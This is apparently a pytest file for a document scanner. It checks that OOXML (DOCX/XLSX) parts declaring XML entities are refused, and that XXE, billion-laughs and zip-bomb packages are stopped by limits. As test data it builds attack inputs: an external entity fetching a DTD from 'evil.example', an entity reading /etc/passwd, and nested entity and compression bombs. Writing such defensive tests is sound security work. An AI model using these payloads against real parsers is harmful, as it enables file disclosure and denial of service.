"""XML safety of OOXML parts: entity declarations are refused before parsing, nothing is
ever resolved or fetched, and zip bombs inside a package are stopped by the limits."""

from __future__ import annotations

import json
import time
import zipfile
from pathlib import Path

import pytest
from lxml import etree

from scanner.extract.base import Context
from scanner.extract.ooxml import unescape_xstring
from scanner.extract.registry import extract_file
from scanner.labels.existing import effective_label
from scanner.limits import Limits
from scanner.model import DocProblem, Segment
from scanner.ooxml.package import resolve_target
from scanner.ooxml.xml import PARSER_OPTIONS, PackageError, check_prolog, parse_xml

CORPUS = Path(__file__).parents[2] / ".." / "shared" / "corpus"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL_T = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx_with_document(path: Path, document: bytes) -> Path:
    ctypes = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'wordprocessingml.document.main+xml"/></Types>'
    )
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{REL_T}/officeDocument" Target="word/document.xml"/></Relationships>'
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", ctypes)
        zf.writestr("_rels/.rels", rels)
        zf.writestr("word/document.xml", document)
    return path


def body(text: str) -> str:
    return f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>'


@pytest.mark.parametrize(
    "prolog",
    [
        '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY x "y">]>',
        '<!DOCTYPE w:document [<!ELEMENT a ANY><!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]>',
        '<?xml version="1.0"?><!-- <w:document> inside a comment --><!DOCTYPE d [<!entity x "y">]>',
        '<?xml version="1.0"?>\n<?pi stuff?>\n<!DOCTYPE d [\n  <!ENTITY lol "lol">\n]>',
    ],
)
def test_entity_declarations_refused(prolog: str) -> None:
    with pytest.raises(PackageError, match="declares entities"):
        check_prolog((prolog + body("x")).encode(), "word/document.xml")


def test_utf16_part_checked_too() -> None:
    data = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY x "y">]>' + body("x")).encode("utf-16")
    with pytest.raises(PackageError, match="declares entities"):
        check_prolog(data, "word/document.xml")


def test_plain_parts_and_entity_text_after_root_pass() -> None:
    check_prolog(('<?xml version="1.0"?>' + body("&lt;!ENTITY is just text here")).encode(), "p")
    check_prolog(b"<!DOCTYPE html><root/>", "p")  # a DOCTYPE without entities is not expanded anyway


def test_entity_past_the_scanned_window_still_refused() -> None:
    """A ']' inside a quoted default cannot end the DOCTYPE early and hide a later ENTITY."""
    data = b'<!DOCTYPE d [<!ATTLIST d a CDATA "]>"><!ELEMENT d ANY>' + b" " * 70_000 + b'<!ENTITY x "y">]><d>&x;</d>'
    with pytest.raises(PackageError):
        check_prolog(data, "p")


def test_oversized_prolog_refused() -> None:
    data = b'<?xml version="1.0"?><!DOCTYPE d [' + b"<!-- pad -->" * 10000 + b"]><d/>"
    with pytest.raises(PackageError):
        check_prolog(data, "p")


def test_parser_never_resolves_even_unchecked_entities() -> None:
    """Defence in depth: the parser itself does not expand or fetch (if the check were bypassed)."""
    data = b'<!DOCTYPE d [<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY x "expanded">]><d>&secret;&x;</d>'
    root = etree.fromstring(data, etree.XMLParser(**PARSER_OPTIONS))
    assert "root:" not in "".join(root.itertext())
    assert "expanded" not in "".join(root.itertext())


def test_xxe_docx_never_reads_the_file(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-MARKER-123")
    doc = (
        f'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY s SYSTEM "{secret.as_uri()}">]>' + body("&s;")
    ).encode()
    events = list(extract_file(docx_with_document(tmp_path / "xxe.docx", doc)))
    assert [e.reason for e in events if isinstance(e, DocProblem)] == [
        "XML part word/document.xml declares entities (possible entity bomb or XXE); refused"
    ]
    assert "TOPSECRET-MARKER-123" not in json.dumps([getattr(e, "text", "") for e in events])


def test_billion_laughs_built_here_is_refused_fast(tmp_path: Path) -> None:
    ents = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "' + f"&l{i - 1};" * 10 + '">' for i in range(1, 10))
    doc = (f'<?xml version="1.0"?><!DOCTYPE w:document [{ents}]>' + body("&l9; SSN 212-67-4431")).encode()
    start = time.monotonic()
    events = list(extract_file(docx_with_document(tmp_path / "lol.docx", doc)))
    assert time.monotonic() - start < 5
    assert any(isinstance(e, DocProblem) and "entities" in e.reason for e in events)
    assert not [e for e in events if isinstance(e, Segment)]


def test_zip_bomb_part_stopped_by_ratio_limit(tmp_path: Path) -> None:
    # ~8 MiB of one repeated paragraph deflates to a few KiB: a ratio far above 200:1.
    doc = body("x" * 64).encode()
    para = doc[doc.index(b"<w:p>") : doc.index(b"</w:body>")]
    huge = doc.replace(para, para * 80_000)
    events = list(extract_file(docx_with_document(tmp_path / "bomb.docx", huge)))
    reasons = [e.reason for e in events if isinstance(e, DocProblem)]
    assert len(reasons) == 1 and "compression ratio above 200:1" in reasons[0]


def test_part_size_limit(tmp_path: Path) -> None:
    doc = body("y" * 200_000).encode()
    events = list(
        extract_file(
            docx_with_document(tmp_path / "big.docx", doc), Limits(xml_part_bytes=100_000, archive_ratio=10_000.0)
        )
    )
    reasons = [e.reason for e in events if isinstance(e, DocProblem)]
    assert reasons and "expands beyond" in reasons[0]


def test_parse_xml_reports_damage() -> None:
    with pytest.raises(PackageError, match=r"damaged or truncated DOCX \(XML error in word/x.xml"):
        parse_xml(b"<a><b></a>", "word/x.xml", "DOCX")


def test_helpers() -> None:
    assert resolve_target("word", "media/../header1.xml") == "word/header1.xml"
    assert resolve_target("word", "/customXml/item1.xml") == "customXml/item1.xml"
    assert resolve_target("xl/worksheets", "../comments%201.xml") == "xl/comments 1.xml"
    assert resolve_target("word", "media\\image1.png#frag") == "word/media/image1.png"  # the scan and the writer agree
    assert unescape_xstring("a_x000D_b_x005F_x") == "a\rb_x"
    assert (
        effective_label(
            {
                "MSIP_Label_11111111-2222-3333-4444-555555555555_Enabled": "false",
                "MSIP_Label_11111111-2222-3333-4444-555555555555_Name": "Old",
            }
        )
        is None
    )


def test_streamed_parts_checked(tmp_path: Path) -> None:
    """Worksheets and shared strings are streamed: the entity check applies there too."""
    x = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    bomb = f'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "aaaa">]><sst xmlns="{x}"><si><t>&a;</t></si></sst>'
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships">{}</Relationships>'
    )
    path = tmp_path / "ss.xlsx"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr(
            "[Content_Types].xml",
            '<Types><Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
        )
        zf.writestr(
            "_rels/.rels",
            rels.format(f'<Relationship Id="r1" Type="{REL_T}/officeDocument" Target="xl/workbook.xml"/>'),
        )
        zf.writestr("xl/workbook.xml", f'<workbook xmlns="{x}"><sheets/></workbook>')
        zf.writestr(
            "xl/_rels/workbook.xml.rels",
            rels.format(f'<Relationship Id="s" Type="{REL_T}/sharedStrings" Target="sharedStrings.xml"/>'),
        )
        zf.writestr("xl/sharedStrings.xml", bomb)
    reasons = [e.reason for e in extract_file(path) if isinstance(e, DocProblem)]
    assert reasons == ["XML part xl/sharedStrings.xml declares entities (possible entity bomb or XXE); refused"]


@pytest.mark.corpus
@pytest.mark.parametrize("case", ["docx_billion_laughs/hr_summary.docx", "docx_xxe/letter.docx"])
def test_adversarial_cases(case: str) -> None:
    path = CORPUS / "adversarial" / "cases" / case
    if not path.is_file():
        pytest.skip("adversarial corpus not present")
    events = list(extract_file(path, Limits()))
    assert any(isinstance(e, DocProblem) for e in events)
    assert "root:x:0:0" not in json.dumps([getattr(e, "text", "") for e in events])


def test_context_budget_shared_with_parts(tmp_path: Path) -> None:
    """Bytes expanded from package parts count against the file's total budget."""
    doc = body("z" * 300_000).encode()
    path = docx_with_document(tmp_path / "budget.docx", doc)
    limits = Limits(archive_total_bytes=100_000, archive_ratio=10_000.0)
    reasons = [e.reason for e in extract_file(path, limits) if isinstance(e, DocProblem)]
    assert reasons and "in total" in reasons[0]
    assert Context(limits).budget.expanded_bytes == 0


def test_zip_bomb_in_streamed_worksheet(tmp_path: Path) -> None:
    """Worksheets are streamed, not read whole: the ratio limit still stops a bomb mid-stream."""
    x = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships">{}</Relationships>'
    )
    rows = '<row><c t="b"><v>1</v></c></row>' * 600_000
    sheet = f'<worksheet xmlns="{x}"><sheetData>{rows}</sheetData></worksheet>'
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr(
            "[Content_Types].xml",
            '<Types><Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
        )
        zf.writestr(
            "_rels/.rels",
            rels.format(f'<Relationship Id="r1" Type="{REL_T}/officeDocument" Target="xl/workbook.xml"/>'),
        )
        zf.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{x}" xmlns:r="{REL_T}"><sheets>'
            '<sheet name="S" sheetId="1" r:id="s1"/></sheets></workbook>',
        )
        zf.writestr(
            "xl/_rels/workbook.xml.rels",
            rels.format(f'<Relationship Id="s1" Type="{REL_T}/worksheet" Target="worksheets/sheet1.xml"/>'),
        )
        zf.writestr("xl/worksheets/sheet1.xml", sheet)
    info = zipfile.ZipFile(path).getinfo("xl/worksheets/sheet1.xml")
    assert info.file_size / info.compress_size > 200
    reasons = [e.reason for e in extract_file(path) if isinstance(e, DocProblem)]
    assert len(reasons) == 1 and "compression ratio above 200:1" in reasons[0]
